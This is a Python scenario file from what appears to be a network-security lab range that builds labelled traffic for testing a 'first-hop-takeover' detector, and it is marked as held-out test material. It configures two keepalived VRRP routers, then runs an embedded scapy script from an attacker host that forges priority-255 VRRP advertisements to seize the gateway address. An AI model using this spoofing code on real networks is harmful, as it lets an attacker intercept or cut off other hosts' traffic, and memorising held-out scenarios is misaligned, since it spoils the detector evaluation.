"""Forged VRRP advertisements of priority 255, as if by the owner of the address (RFC 9568, section 6.1)."""

from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.benign.vrrp_failover import CONFIGURATION

PROGRAM = """
import struct, sys
mine = sys.argv[1]
body = bytes([0x21, 7, 255, 1, 0, 1, 0, 0]) + bytes([10, 20, 0, 254]) + bytes(8)
body = body[:6] + struct.pack(">H", checksum(body)) + body[8:]
frame = Ether(src=sys.argv[2], dst="01:00:5e:00:00:12") / IP(src=mine, dst="224.0.0.18", ttl=255, proto=112)
for _ in range(14):
    sendp(frame / Raw(body))
    time.sleep(1)
"""


def run(net: Range) -> None:
    attacker = net.inside("pc4")
    first, second = net.inside("gateway1", 2), net.inside("gateway2", 3)
    net.everyday()
    net.loop(net.inside("pc2"), "ping -n -q -c 1 -W 1 10.20.0.254", 1.0)
    net.loop(attacker, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.5)
    for host, state, priority in ((first, "MASTER", "150"), (second, "BACKUP", "100")):
        text = CONFIGURATION.replace("STATE", state).replace("PRIORITY", priority)
        file = host.folder / "keepalived.conf"
        file.write_text(text.replace("NAME", host.name))
        host.start(
            *("keepalived", "-n", "-l", "-P", "-f", str(file), "-p", str(host.folder / "keepalived.pid"))
        )
    net.quiet(12)
    with net.attack(
        "first-hop-takeover",
        by=attacker,
        victims=[first, "10.20.0.254"],
        frames="ip proto 112",
        responses="ip proto 112",
    ):
        net.scapy(attacker, PROGRAM, attacker.ip, attacker.mac)
    net.quiet(3)


SCENARIO = Scenario(
    name="first-hop-takeover-held-owner",
    about="A station says every second with priority 255 that it owns the address of two VRRP routers.",
    detectors=("first-hop-takeover",),
    tools={"keepalived": "keepalived"},
    held_out=True,
    run=run,
)
